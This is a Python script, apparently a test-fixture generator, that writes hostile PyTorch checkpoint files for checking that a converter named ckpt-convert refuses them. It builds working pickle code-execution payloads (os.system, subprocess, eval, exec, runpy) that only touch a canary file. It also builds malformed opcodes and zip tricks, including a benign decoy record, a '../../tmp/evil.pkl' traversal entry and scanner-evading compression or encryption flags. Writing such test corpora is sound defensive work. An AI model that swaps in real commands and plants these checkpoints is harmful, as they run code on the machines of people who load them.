@@ -1,0 +1,572 @@
+#!/usr/bin/env python3
+"""The malicious checkpoint corpus: checkpoints that attack a loader, made with Python's
+`pickle` and `zipfile` (standard library only; torch is not needed).
+
+    python3 tools/make_attacks.py --out DIR [--canary-dir DIR] [--list]
+
+writes DIR/<name>.pth for every attack in ATTACKS (and DIR/attacks.json describing them).
+Deterministic: the same arguments give the same bytes.
+
+Each file looks like a torch.save checkpoint (a zip archive, or the legacy stream) holding
+a small state dict, with one attack in it:
+
+- code attacks: a pickle that runs a command when Python unpickles it (torch.load with
+  weights_only=False): os/posix/nt.system, subprocess, builtins eval/exec/getattr/__import__,
+  importlib, runpy, torch.load of another hostile file, through GLOBAL, STACK_GLOBAL, INST and
+  OBJ. The command creates the canary file CANARY_DIR/<name>; it must never appear when
+  ckpt-convert reads the file.
+- structure attacks: opcodes and archives that crash, exhaust or fool parsers: BUILD on
+  non-dicts, SETITEM on a list, APPEND on a dict, out-of-range memo gets, a million nested
+  MARKs, a LONG of 2 GB declared length, copyreg extension codes, storages and tensors whose
+  numel, sizes, strides or offsets are negative, overflow or reach past their record, deep
+  nesting, and zip tricks (duplicate names, local/central header mismatch, names outside the
+  archive folder, the encryption flag bit, compression, an entry count that lies).
+
+`expect` is what ckpt-convert's one error line must contain (it names the global or the
+defect); `flags` are the globals `inspect --json` must report with runs_code=true (code
+attacks: inspect reads them and exits 0; structure attacks: inspect exits 1 with the same
+message as the conversion); `torch_runs` marks the attacks that torch.load(weights_only=False)
+of torch 1.13 demonstrably executes (the canary appears: tests/e2e/cases_hostile.py checks it).
+"""
+import argparse
+import collections
+import io
+import json
+import pickle
+import struct
+import sys
+import warnings
+import zipfile
+from pathlib import Path
+
+ARCHIVE = 'archive'
+DATE = (1980, 1, 1, 0, 0, 0)
+LEGACY_MAGIC = 0x1950a86a20f9469cfc6c
+
+
+# ----------------------------------------------------------------------------- pickling
+
+class Global:
+    """A global `module.name` written by name (GLOBAL, or STACK_GLOBAL from protocol 4),
+    never imported: the generator needs neither torch nor the attacked modules."""
+
+    def __init__(self, module, name):
+        self.module, self.name = module, name
+
+    def __call__(self, *args):      # pickle's save_reduce wants a callable
+        raise TypeError('a stand-in for a global, not callable')
+
+
+class Call:
+    """Pickles as REDUCE(func, args) [+ BUILD state]: a call when unpickled."""
+
+    def __init__(self, func, args, state=None):
+        self.func, self.args, self.state = func, tuple(args), state
+
+    def __reduce__(self):
+        return (self.func, self.args) if self.state is None else (self.func, self.args, self.state)
+
+    def __call__(self, *args):      # a call's result may be called in turn
+        raise TypeError('a stand-in for a call, not callable')
+
+
+class Raw:
+    """Opcode bytes spliced into the pickle where this object stands; they must leave
+    exactly one object on the stack (or break the pickle, which is the point)."""
+
+    def __init__(self, opcodes):
+        self.opcodes = opcodes
+
+
+class Storage:
+    def __init__(self, key, data, numel=None, cls='FloatStorage', location='cpu', legacy=False):
+        self.key, self.data, self.cls, self.location, self.legacy = key, data, cls, location, legacy
+        self.numel = len(data) // 4 if numel is None else numel
+
+
+class Tensor:
+    """torch._utils._rebuild_tensor_v2(storage, offset, size, stride, False, OrderedDict())."""
+
+    def __init__(self, storage, offset=0, size=None, stride=None):
+        self.storage, self.offset = storage, offset
+        self.size = (storage.numel,) if size is None else size
+        self.stride = (1,) if stride is None else stride
+
+    def __reduce__(self):
+        return (Global('torch._utils', '_rebuild_tensor_v2'),
+                (self.storage, self.offset, self.size, self.stride, False, collections.OrderedDict()))
+
+
+class Pickler(pickle._Pickler):
+    """Python's own pickler, taught to write Global stand-ins, Raw splices and storages as
+    torch.save's persistent ids."""
+
+    dispatch = pickle._Pickler.dispatch.copy()
+
+    def save_stand_in_global(self, obj):
+        if self.proto >= 4:
+            self.save(obj.module)
+            self.save(obj.name)
+            self.write(pickle.STACK_GLOBAL)
+        else:
+            self.write(pickle.GLOBAL + f'{obj.module}\n{obj.name}\n'.encode())
+        self.memoize(obj)
+
+    def save_raw(self, obj):
+        self.write(obj.opcodes)
+
+    dispatch[Global] = save_stand_in_global
+    dispatch[Raw] = save_raw
+
+    def persistent_id(self, obj):
+        if isinstance(obj, Storage):
+            pid = ('storage', Global('torch', obj.cls), obj.key, obj.location, obj.numel)
+            return pid + (None,) if obj.legacy else pid
+        return None
+
+
+def dumps(obj, protocol=2):
+    out = io.BytesIO()
+    Pickler(out, protocol).dump(obj)
+    return out.getvalue()
+
+
+def unicode(text):
+    raw = text.encode()
+    return pickle.BINUNICODE + struct.pack('<I', len(raw)) + raw
+
+
+def state_dict(storage):
+    """A DataParallel-style state dict with _metadata, over STORAGE (4 floats)."""
+    sd = collections.OrderedDict([('module.fc.weight', Tensor(storage))])
+    sd._metadata = collections.OrderedDict([('', {'version': 1}), ('module', {'version': 1}),
+                                            ('module.fc', {'version': 1})])
+    return sd
+
+
+FLOATS = struct.pack('<4f', 0.5, -1.0, 2.0, 3.25)
+
+
+# ----------------------------------------------------------------------------- containers
+
+def zip_archive(records, compress=()):
+    """A zip archive as torch.save lays it out: RECORDS [(name under ARCHIVE/, bytes)],
+    stored (or deflated for names in COMPRESS), fixed timestamps."""
+    out = io.BytesIO()
+    with warnings.catch_warnings():
+        warnings.simplefilter('ignore')      # duplicate names are one of the attacks
+        with zipfile.ZipFile(out, 'w') as z:
+            for name, data in records:
+                info = zipfile.ZipInfo(name if name.startswith(('../', 'evil')) else f'{ARCHIVE}/{name}',
+                                       date_time=DATE)
+                info.compress_type = zipfile.ZIP_DEFLATED if name in compress else zipfile.ZIP_STORED
+                info.external_attr = 0o644 << 16
+                z.writestr(info, data)
+    return out.getvalue()
+
+
+def checkpoint(obj, storages, protocol=2, compress=()):
+    records = [('data.pkl', dumps(obj, protocol)), ('byteorder', b'little')]
+    records += [(f'data/{s.key}', s.data) for s in storages]
+    records.append(('version', b'3\n'))
+    return zip_archive(records, compress)
+
+
+def legacy_checkpoint(obj, storages):
+    """torch < 1.6's stream: magic, protocol, sys_info, the object, the keys, the bytes."""
+    sys_info = {'protocol_version': 1001, 'little_endian': True,
+                'type_sizes': {'short': 2, 'int': 4, 'long': 4}}
+    out = pickle.dumps(LEGACY_MAGIC, 2) + pickle.dumps(1001, 2) + pickle.dumps(sys_info, 2)
+    out += dumps(obj) + pickle.dumps([s.key for s in storages], 2)
+    for s in storages:
+        out += struct.pack('<q', s.numel) + s.data
+    return out
+
+
+def zip_records(raw):
+    """[(ZipInfo, offset of its local header)] of RAW."""
+    with zipfile.ZipFile(io.BytesIO(raw)) as z:
+        return [(info, info.header_offset) for info in z.infolist()]
+
+
+def central_offsets(raw):
+    """Offset of each central directory entry, in order."""
+    end = raw.rindex(b'PK\x05\x06')
+    count, _, start = struct.unpack('<HII', raw[end + 10:end + 20])
+    offsets, pos = [], start
+    for _ in range(count):
+        offsets.append(pos)
+        name_len, extra_len, comment_len = struct.unpack('<HHH', raw[pos + 28:pos + 34])
+        pos += 46 + name_len + extra_len + comment_len
+    return offsets
+
+
+# ----------------------------------------------------------------------------- attacks
+
+class Attack:
+    def __init__(self, name, summary, make, expect, flags=(), torch_runs=False):
+        self.name, self.summary, self.make, self.expect = name, summary, make, expect
+        self.flags = tuple(flags)           # globals inspect must flag (code attacks)
+        self.torch_runs = torch_runs        # torch.load(weights_only=False) runs the payload
+
+    @property
+    def kind(self):
+        return 'code' if self.flags else 'structure'
+
+    def build(self, canary_dir, out_dir=None):
+        return self.make(Context(self.name, canary_dir, out_dir))
+
+
+class Context:
+    def __init__(self, name, canary_dir, out_dir):
+        self.name = name
+        self.canary = str(Path(canary_dir) / name)
+        self.out_dir = Path(out_dir) if out_dir else Path(canary_dir)
+
+    @property
+    def touch(self):
+        return f'touch {self.canary}'
+
+
+ATTACKS = []
+
+
+def attack(expect, flags=(), torch_runs=False):
+    def register(make):
+        ATTACKS.append(Attack(make.__name__, (make.__doc__ or '').strip(), make, expect, flags,
+                              torch_runs))
+        return make
+    return register
+
+
+def with_payload(payload, protocol=2):
+    """A training checkpoint whose 'extra' entry is PAYLOAD."""
+    storage = Storage('0', FLOATS)
+    return checkpoint({'state_dict': state_dict(storage), 'epoch': 3, 'extra': payload},
+                      [storage], protocol)
+
+
+# --- code: the classic payloads, by every route to a global ------------------------------
+
+@attack("global 'os.system'", flags=['os.system'], torch_runs=True)
+def os_system_global(c):
+    """GLOBAL os.system, REDUCE ('touch CANARY',): the classic pickle payload."""
+    return with_payload(Call(Global('os', 'system'), [c.touch]))
+
+
+@attack("global 'posix.system'", flags=['posix.system'], torch_runs=True)
+def posix_system_stack_global(c):
+    """STACK_GLOBAL (protocol 4) posix.system: what pickle.dumps writes for os.system on Linux."""
+    return with_payload(Call(Global('posix', 'system'), [c.touch]), protocol=4)
+
+
+@attack("global 'nt.system'", flags=['nt.system'])
+def nt_system_global(c):
+    """GLOBAL nt.system: os.system as pickled on Windows (not importable here)."""
+    return with_payload(Call(Global('nt', 'system'), [c.touch]))
+
+
+@attack("global 'subprocess.run'", flags=['subprocess.run'], torch_runs=True)
+def subprocess_run(c):
+    """subprocess.run(['touch', CANARY])."""
+    return with_payload(Call(Global('subprocess', 'run'), [['touch', c.canary]]))
+
+
+@attack("global 'builtins.eval'", flags=['builtins.eval'], torch_runs=True)
+def builtins_eval(c):
+    """builtins.eval of a string that imports os and runs the command."""
+    return with_payload(Call(Global('builtins', 'eval'),
+                             [f"__import__('os').system({c.touch!r})"]))
+
+
+@attack("global 'builtins.exec'", flags=['builtins.exec'], torch_runs=True)
+def builtins_exec(c):
+    """builtins.exec of a statement."""
+    return with_payload(Call(Global('builtins', 'exec'), [f"import os; os.system({c.touch!r})"]))
+
+
+@attack("global 'builtins.getattr'", flags=['builtins.getattr', 'builtins.__import__'],
+        torch_runs=True)
+def builtins_getattr(c):
+    """getattr(__import__('os'), 'system')('touch CANARY'): no global names os.system."""
+    os_module = Call(Global('builtins', '__import__'), ['os'])
+    system = Call(Global('builtins', 'getattr'), [os_module, 'system'])
+    return with_payload(Call(system, [c.touch]))
+
+
+@attack("global 'builtins.__import__'", flags=['builtins.__import__', 'builtins.getattr'],
+        torch_runs=True)
+def builtins_import(c):
+    """__import__('os') first, then getattr on it through the memo."""
+    storage = Storage('0', FLOATS)
+    os_module = Call(Global('builtins', '__import__'), ['os'])
+    system = Call(Global('builtins', 'getattr'), [os_module, 'system'])
+    return checkpoint({'state_dict': state_dict(storage), 'os': os_module,
+                       'extra': Call(system, [c.touch])}, [storage])
+
+
+@attack("global 'importlib.import_module'",
+        flags=['importlib.import_module', 'builtins.getattr'], torch_runs=True)
+def importlib_import_module(c):
+    """importlib.import_module('os'), then getattr(…, 'system')(…)."""
+    storage = Storage('0', FLOATS)
+    os_module = Call(Global('importlib', 'import_module'), ['os'])
+    system = Call(Global('builtins', 'getattr'), [os_module, 'system'])
+    return checkpoint({'state_dict': state_dict(storage), 'os': os_module,
+                       'extra': Call(system, [c.touch])}, [storage])
+
+
+@attack("global 'runpy._run_code'", flags=['runpy._run_code'], torch_runs=True)
+def runpy_run_code(c):
+    """runpy._run_code(source, {}): exec by another name."""
+    return with_payload(Call(Global('runpy', '_run_code'),
+                             [f"import os; os.system({c.touch!r})", {}]))
+
+
+@attack("global 'torch.load'", flags=['torch.load'], torch_runs=True)
+def torch_load_nested(c):
+    """torch.load of a second hostile file (written beside this one) from inside the pickle."""
+    inner = c.out_dir / 'torch_load_nested.inner.pkl'
+    inner.parent.mkdir(parents=True, exist_ok=True)
+    inner.write_bytes(dumps(Call(Global('os', 'system'), [c.touch])))
+    return with_payload(Call(Global('torch', 'load'), [str(inner)]))
+
+
+@attack("global 'os.system'", flags=['os.system'], torch_runs=True)
+def inst_os_system(c):
+    """INST os system (protocol 0): call and global in one opcode."""
+    return with_payload(Raw(pickle.MARK + unicode(c.touch) + pickle.INST + b'os\nsystem\n'))
+
+
+@attack("global 'subprocess.check_call'", flags=['subprocess.check_call'], torch_runs=True)
+def obj_subprocess_check_call(c):
+    """OBJ with subprocess.check_call as the class: OBJ calls it with the items above MARK."""
+    return with_payload(Raw(pickle.MARK + pickle.GLOBAL + b'subprocess\ncheck_call\n' +
+                            pickle.MARK + unicode('touch') + unicode(c.canary) + pickle.LIST +
+                            pickle.OBJ))
+
+
+@attack("global 'os.system'", flags=['os.system'], torch_runs=True)
+def legacy_os_system(c):
+    """The legacy (torch < 1.6) stream with os.system in its object pickle."""
+    storage = Storage('0', FLOATS, legacy=True)
+    return legacy_checkpoint({'state_dict': state_dict(storage),
+                              'extra': Call(Global('os', 'system'), [c.touch])}, [storage])
+
+
+# --- structure: opcodes no pickler writes ------------------------------------------------
+
+@attack('BUILD on a list')
+def build_on_list(c):
+    """BUILD on a list: Python would setattr on it; state only belongs on objects."""
+    return with_payload(Raw(pickle.EMPTY_LIST + pickle.EMPTY_DICT + pickle.BUILD))
+
+
+@attack('BUILD on a global')
+def build_on_global(c):
+    """BUILD on a class: monkeypatching collections.OrderedDict.__init__ with os.system."""
+    return with_payload(Raw(pickle.GLOBAL + b'collections\nOrderedDict\n' + pickle.MARK +
+                            unicode('__init__') + pickle.GLOBAL + b'os\nsystem\n' +
+                            pickle.DICT + pickle.BUILD))
+
+
+@attack('SETITEM on a list')
+def setitem_on_list(c):
+    """SETITEM on a list."""
+    return with_payload(Raw(pickle.EMPTY_LIST + unicode('key') + unicode('value') + pickle.SETITEM))
+
+
+@attack('APPEND on a dict')
+def append_on_dict(c):
+    """APPEND on a dict."""
+    return with_payload(Raw(pickle.EMPTY_DICT + unicode('item') + pickle.APPEND))
+
+
+@attack('memo key 2147483647 was never stored')
+def memo_get_out_of_range(c):
+    """LONG_BINGET of a memo index never stored (2**31 - 1)."""
+    return with_payload(Raw(pickle.LONG_BINGET + struct.pack('<I', 2**31 - 1)))
+
+
+@attack('more than 4096 nested MARKs')
+def nested_marks_million(c):
+    """A million MARKs in a row: a stack of stacks."""
+    return with_payload(Raw(pickle.MARK * 1_000_000 + pickle.NONE))
+
+
+@attack('LONG4 of 2147483647 bytes exceeds the limit')
+def long4_2gb(c):
+    """LONG4 declaring a 2 GB integer (0x7fffffff bytes)."""
+    return with_payload(Raw(pickle.LONG4 + struct.pack('<i', 2**31 - 1) + b'\x01' * 16))
+
+
+@attack('copyreg extension codes')
+def ext1_extension_code(c):
+    """EXT1: a global by copyreg extension number, resolved through a registry at load time."""
+    return with_payload(Raw(pickle.EXT1 + b'\x01'))
+
+
+@attack('persistent id of unknown kind')
+def persistent_id_not_storage(c):
+    """A persistent id that is not a storage: loaders that resolve other kinds run hooks."""
+    return with_payload(Raw(pickle.MARK + unicode('module') + unicode('os') + pickle.TUPLE +
+                            pickle.BINPERSID))
+
+
+@attack('nested deeper than 1000 levels')
+def nested_lists_100k(c):
+    """A list nested 100000 deep: recursive readers run out of stack."""
+    depth = 100_000
+    return with_payload(Raw(pickle.EMPTY_LIST * depth + pickle.APPEND * (depth - 1)))
+
+
+# --- structure: storages and tensors that lie about their bytes ---------------------------
+
+def with_tensor(storage, **view):
+    return checkpoint({'state_dict': collections.OrderedDict([('module.fc.weight',
+                                                               Tensor(storage, **view))])},
+                      [storage])
+
+
+@attack("holds 16 bytes, but its 1000000 elements need 4000000")
+def storage_numel_exceeds_record(c):
+    """A storage id claiming 1000000 floats over a 16-byte record."""
+    return with_tensor(Storage('0', FLOATS, numel=1_000_000), size=(4,))
+
+
+@attack("storage '0' has an invalid element count")
+def storage_numel_negative(c):
+    """A storage id with numel -1."""
+    return with_tensor(Storage('0', FLOATS, numel=-1), size=(4,))
+
+
+@attack('negative size or stride in dimension 0')
+def negative_size(c):
+    """A tensor of size (-1,)."""
+    return with_tensor(Storage('0', FLOATS), size=(-1,))
+
+
+@attack('negative size or stride in dimension 1')
+def negative_stride(c):
+    """A tensor with stride (1, -1): reads before its storage."""
+    return with_tensor(Storage('0', FLOATS), size=(2, 2), stride=(2, -1))
+
+
+@attack('negative storage offset -4')
+def negative_offset(c):
+    """A tensor at storage offset -4."""
+    return with_tensor(Storage('0', FLOATS), offset=-4, size=(4,))
+
+
+@attack('tensor sizes and strides overflow 64 bits')
+def overflowing_size_stride(c):
+    """Size 2**62 with stride 2**62: the extent wraps around 64 bits to something small."""
+    return with_tensor(Storage('0', FLOATS), size=(2**62, 1), stride=(2**62, 1))
+
+
+@attack('tensor sizes and strides overflow 64 bits')
+def overflowing_offset(c):
+    """Storage offset 2**63 - 1: offset times the element size wraps around."""
+    return with_tensor(Storage('0', FLOATS), offset=2**63 - 1, size=(1,))
+
+
+# --- structure: zip tricks that make two readers see two different files -------------------
+
+@attack("two records named 'archive/data.pkl'", flags=())
+def zip_duplicate_names(c):
+    """Two data.pkl records: a harmless first one for scanners, os.system in the second
+    (Python's zipfile reads the last, others the first)."""
+    storage = Storage('0', FLOATS)
+    benign = dumps({'state_dict': state_dict(storage)})
+    hostile = dumps({'state_dict': state_dict(storage),
+                     'extra': Call(Global('os', 'system'), [c.touch])})
+    return zip_archive([('data.pkl', benign), ('data.pkl', hostile), ('byteorder', b'little'),
+                        ('data/0', FLOATS), ('version', b'3\n')])
+
+
+@attack('local header disagrees with the central directory', torch_runs=True)
+def zip_local_central_mismatch(c):
+    """data.pkl's local header names another record than its central directory entry (and
+    holds os.system): readers that walk local headers and readers that trust the central
+    directory see different archives; torch's reader loads it."""
+    raw = bytearray(with_payload(Call(Global('os', 'system'), [c.touch])))
+    info, local = next(r for r in zip_records(bytes(raw)) if r[0].filename.endswith('data.pkl'))
+    name_at = local + 30
+    assert raw[name_at:name_at + len(info.filename)] == info.filename.encode()
+    raw[name_at + len(info.filename) - 3:name_at + len(info.filename)] = b'pkX'
+    return bytes(raw)
+
+
+@attack("zip record '../../tmp/evil.pkl' lies outside the archive folder 'archive/'")
+def zip_outside_prefix(c):
+    """A record named ../../tmp/evil.pkl beside archive/: path traversal for extractors, a
+    second pickle for loaders that take any *.pkl."""
+    storage = Storage('0', FLOATS)
+    return zip_archive([('data.pkl', dumps({'state_dict': state_dict(storage)})),
+                        ('data/0', FLOATS), ('version', b'3\n'),
+                        ('../../tmp/evil.pkl', dumps(Call(Global('os', 'system'), [c.touch])))])
+
+
+@attack("zip record 'archive/data.pkl' is marked encrypted")
+def zip_encrypted_flag(c):
+    """The encryption flag bit set on data.pkl, which is not encrypted and holds os.system:
+    zip readers disagree on such a record (Python's zipfile asks for a password, so scanners
+    built on it skip the record; readers that ignore the bit load it; torch 1.13 refuses)."""
+    raw = bytearray(with_payload(Call(Global('os', 'system'), [c.touch])))
+    info, local = next(r for r in zip_records(bytes(raw)) if r[0].filename.endswith('data.pkl'))
+    index = [i.filename for i, _ in zip_records(bytes(raw))].index(info.filename)
+    central = central_offsets(bytes(raw))[index]
+    for flags_at in (local + 6, central + 8):
+        flags, = struct.unpack('<H', raw[flags_at:flags_at + 2])
+        raw[flags_at:flags_at + 2] = struct.pack('<H', flags | 0x0001)
+    return bytes(raw)
+
+
+@attack('record is compressed (method 8)', torch_runs=True)
+def zip_compressed_pickle(c):
+    """data.pkl deflated, holding os.system: byte-pattern scanners see no opcodes; torch's
+    reader inflates and loads it."""
+    storage = Storage('0', FLOATS)
+    return checkpoint({'state_dict': state_dict(storage),
+                       'extra': Call(Global('os', 'system'), [c.touch])}, [storage],
+                      compress=('data.pkl',))
+
+
+@attack('zip central directory claims 65534 entries in')
+def zip_entry_count_lie(c):
+    """The end record claims 65534 entries: readers that trust it over-allocate or over-read."""
+    raw = bytearray(with_payload(0))
+    end = raw.rindex(b'PK\x05\x06')
+    raw[end + 8:end + 12] = struct.pack('<HH', 0xfffe, 0xfffe)
+    return bytes(raw)
+
+
+def main(argv=None):
+    ap = argparse.ArgumentParser(description=__doc__.split('\n\n')[0])
+    ap.add_argument('--out', help='folder to write the attack files into')
+    ap.add_argument('--canary-dir', help='where code attacks would create their canary files '
+                    '(default: OUT/canaries)')
+    ap.add_argument('--list', action='store_true', help='print the attack names and exit')
+    args = ap.parse_args(argv)
+    if args.list:
+        print('\n'.join(a.name for a in ATTACKS))
+        return 0
+    if not args.out:
+        ap.error('--out is required')
+    out = Path(args.out).resolve()
+    canaries = Path(args.canary_dir).resolve() if args.canary_dir else out / 'canaries'
+    out.mkdir(parents=True, exist_ok=True)
+    canaries.mkdir(parents=True, exist_ok=True)
+    table = []
+    for a in ATTACKS:
+        (out / f'{a.name}.pth').write_bytes(a.build(canaries, out))
+        table.append({'name': a.name, 'kind': a.kind, 'summary': a.summary, 'expect': a.expect,
+                      'flags': list(a.flags), 'torch_runs': a.torch_runs,
+                      'canary': str(canaries / a.name)})
+    (out / 'attacks.json').write_text(json.dumps(table, indent=1) + '\n')
+    print(f'make_attacks: {len(ATTACKS)} attacks in {out} (canaries in {canaries})')
+    return 0
+
+
+if __name__ == '__main__':
+    sys.exit(main())
